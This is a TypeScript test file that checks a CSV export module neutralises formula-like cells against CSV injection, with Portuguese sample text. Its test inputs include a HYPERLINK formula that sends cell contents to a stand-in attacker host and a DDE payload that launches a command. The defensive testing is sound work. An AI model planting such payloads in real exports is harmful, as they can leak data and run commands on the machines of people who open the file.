import { describe, expect, it } from 'vitest';
import { csvField, neutralizeCsvCell, toCsv } from './csv';

describe('CSV cells never run as formulas (OWASP CSV injection)', () => {
  it.each([
    [
      '=HYPERLINK("https://attacker.example/?d="&A2;"Clique")',
      `"'=HYPERLINK(""https://attacker.example/?d=""&A2;""Clique"")"`,
    ],
    ["+1+cmd|' /C calc'!A0", `"'+1+cmd|' /C calc'!A0"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
  ])('writes %j as inert text', (value, written) => {
    expect(csvField(value)).toBe(written);
  });

  it('leaves ordinary text alone, quoting only what CSV needs', () => {
    expect(csvField('Fitness e bem-estar')).toBe('Fitness e bem-estar');
    expect(csvField('a; b')).toBe('"a; b"');
    expect(csvField('diz "olá"')).toBe('"diz ""olá"""');
    expect(csvField('1 = 1')).toBe('1 = 1');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
  });

  it('keeps the numbers the product writes as numbers, negative ones too', () => {
    expect(csvField(1_500_000)).toBe('1500000');
    expect(csvField(-3)).toBe('-3');
  });

  it('marks only a formula-like start', () => {
    expect(neutralizeCsvCell('=1')).toBe("'=1");
    expect(neutralizeCsvCell('a=1')).toBe('a=1');
    expect(neutralizeCsvCell('')).toBe('');
  });

  it('writes a whole file with BOM, separators and CRLF', () => {
    expect(
      toCsv(
        ['Nome', 'Total'],
        [
          ['=cmd', 10],
          ['Moda', 5],
        ],
      ),
    ).toBe(`\uFEFFNome;Total\r\n"'=cmd";10\r\nModa;5\r\n`);
  });
});
